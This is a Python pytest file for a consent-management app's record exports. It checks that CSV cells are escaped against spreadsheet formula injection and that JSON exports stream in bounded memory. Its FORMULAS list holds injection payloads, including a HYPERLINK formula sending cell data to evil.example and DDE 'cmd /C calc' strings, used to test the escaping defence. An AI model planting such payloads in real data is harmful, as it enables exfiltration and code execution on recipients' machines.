"""Record exports: bounded memory for JSON with ids, and no spreadsheet formula in any CSV.

Issue 12, findings 5 and 7: a JSON export with ``ids=1`` was built whole in memory (500k ids:
438 MB), and cells beginning ``= + - @`` (tab, CR) went unchanged into a CSV that opens in
Excel. Every backend; the CLI as a real subprocess.
"""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from pathlib import Path

import pytest
from flask import Flask

from cmp import clock, csvsafe, ids, lookup, provision, records
from cmp.apikeys import issue
from cmp.model import ProvisionRecord, ReceivedProvision
from cmp.storage import Storage, open_store
from tests.conftest import SECRET, make_app
from tests.test_cli import run

RECORDS = "/api/v1/sites/demo/provision-records"
#: What an attacker would put into a field that ends up in an export.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=already quoted",
]


def _record(n: int, *, name: str = "Recipient", ids_per_record: int = 1) -> ProvisionRecord:
    when = f"2026-01-01T{n // 60:02d}:{n % 60:02d}:00Z"
    return ProvisionRecord(
        record_id=f"pr-{n:05d}",
        site="demo",
        recipient={
            "key": "dmp-partner",
            "name": name,
            "address": "a",
            "representative": "r",
            "country": "日本",
        },
        items=["閲覧履歴"],
        purpose=name,
        consent_confirmation="c",
        foreign_info_confirmation="",
        provided_from=when,
        provided_to=when,
        allowed_count=ids_per_record,
        denied_count=0,
        retention_until=provision.retention_until(clock.parse(when), 30),
        created_by="test",
        created_at=when,
        allowed=[[f"{n:06d}{i:016d}", f"{n:06d}{i:016d}-1"] for i in range(ids_per_record)],
    )


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for c in row]


def _no_formula(text: str) -> None:
    for value in _cells(text):
        assert not value or value[0] not in csvsafe.TRIGGERS, repr(value)


def test_csv_cells_never_start_a_formula(app: Flask) -> None:
    store: Storage = app.extensions["cmp.store"]
    for n, name in enumerate(FORMULAS):
        store.append_provision_record(_record(n, name=name))
    read = {"Authorization": f"Bearer {issue(store, 'demo', ['read'])[1]}"}
    client = app.test_client()
    for query in ("format=csv", "format=csv&lang=en&ids=1"):
        text = client.get(f"{RECORDS}?{query}", headers=read).get_data(as_text=True)
        _no_formula(text)
        columns = records.COLUMNS + (records.VISITOR_COLUMNS if "ids" in query else ())
        rows = records.parse_csv(text, columns)
        assert [r["recipient_name"] for r in rows] == FORMULAS  # read back exactly
        assert "'=HYPERLINK(" in text and "'+1+cmd" in text and "'''=already" not in text
    vid = ids.sign(SECRET, _record(0).allowed[0][0])
    _no_formula(client.get(f"{RECORDS}?visitor_id={vid}&format=csv", headers=read).text)


def test_cli_csv_exports_never_start_a_formula(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'cli.sqlite3'}"
    env = {"CMP_STORE_URL": url, "CMP_SECRET_KEY": SECRET, "CMP_INSTANCE_PATH": str(tmp_path)}
    assert run(env, "seed-demo").returncode == 0
    store = open_store(url)
    for n, name in enumerate(FORMULAS):
        store.append_provision_record(_record(n, name=name))
        store.append_received_provision(
            ReceivedProvision(
                f"a{n}", "demo", {"name": name, "address": "-東京都", "representative": "@x"},
                ["購買履歴"], name, "同意取得済み", "2026-01-01T00:00:00Z", "k1",
                "2026-06-01T00:00:00Z", "2026-01-01T00:00:00Z",
            )
        )  # fmt: skip
    store.close()
    for extra in ((), ("--ids",), ("--received",)):
        done = run(env, "export-records", "--site", "demo", *extra)
        assert done.returncode == 0, done.stderr
        _no_formula(done.stdout)
    received = run(env, "export-records", "--site", "demo", "--received").stdout
    rows = records.parse_csv(received, records.RECEIVED_COLUMNS)
    # (the subprocess's output is read with universal newlines: the CR cell arrives as LF)
    names = [r["provider_name"] for r in rows]
    assert [n for n in names if "\n" not in n] == [f for f in FORMULAS if "\r" not in f]


def test_the_rule_is_owasps_and_reversible() -> None:
    for text in FORMULAS + ["", "plain", "'quoted", "''=x", "2026-01-01", "a=b"]:
        assert csvsafe.restore(csvsafe.cell(text)) == text
    assert csvsafe.cell("=1") == "'=1" and csvsafe.cell("a=1") == "a=1"
    assert csvsafe.cell(-5) == -5  # numbers stay numbers


def test_json_export_with_ids_streams_in_bounded_memory(store_url: str) -> None:
    # Not the ``app`` fixture: its OpenAPI watch reads every JSON body whole to check it.
    app = make_app(store_url)
    store: Storage = app.extensions["cmp.store"]
    count, per = 30, 5000
    for n in range(count):
        store.append_provision_record(_record(n, ids_per_record=per))
    read = {"Authorization": f"Bearer {issue(store, 'demo', ['read'])[1]}"}
    client = app.test_client()
    tracemalloc.start()
    try:
        resp = client.get(f"{RECORDS}?ids=1&limit=10000", headers=read, buffered=False)
        assert resp.status_code == 200 and resp.is_streamed
        size = 0
        first = b""
        for chunk in resp.response:
            first = first or chunk
            size += len(chunk)
        resp.close()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert size > 10_000_000  # the whole answer is more than 10 MB ...
    # ... but never held at once. (Receipts are named under the 65-character lookup id since
    # the second outside attack, so one 5,000-id record weighs a little more than before.)
    assert peak < 14_000_000, f"peak {peak / 1e6:.1f} MB"
    body = client.get(f"{RECORDS}?ids=1&limit=10000", headers=read).get_json()
    assert body["count"] == count and len(body["records"][-1]["allowed"]) == per
    # Exports name visitors by the recipient's lookup-only id, never the signed id.
    assert body["records"][0]["allowed"][0]["visitor_id"] == lookup.make(
        SECRET, "demo", "dmp-partner", _record(0).allowed[0][0]
    )
    store.close()


def test_the_limit_message_points_to_the_cli(app: Flask) -> None:
    store: Storage = app.extensions["cmp.store"]
    read = {"Authorization": f"Bearer {issue(store, 'demo', ['read'])[1]}"}
    resp = app.test_client().get(f"{RECORDS}?limit=10001", headers=read)
    assert resp.status_code == 422
    assert "cmp export-records" in resp.get_json()["detail"]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_cli_export_is_written_whole_or_not_under_its_name(tmp_path: Path, fmt: str) -> None:
    url = f"sqlite:///{tmp_path / 'cli.sqlite3'}"
    env = {"CMP_STORE_URL": url, "CMP_SECRET_KEY": SECRET, "CMP_INSTANCE_PATH": str(tmp_path)}
    assert run(env, "seed-demo").returncode == 0
    store = open_store(url)
    store.append_provision_record(_record(1, ids_per_record=3))
    store.close()
    out = tmp_path / f"out.{fmt}"
    done = run(env, "export-records", "--site", "demo", "--format", fmt, "--ids", "-o", str(out))
    assert done.returncode == 0, done.stderr
    assert out.exists() and not Path(f"{out}.partial").exists()
    if fmt == "jsonl":
        assert len(json.loads(out.read_text())["allowed"]) == 3
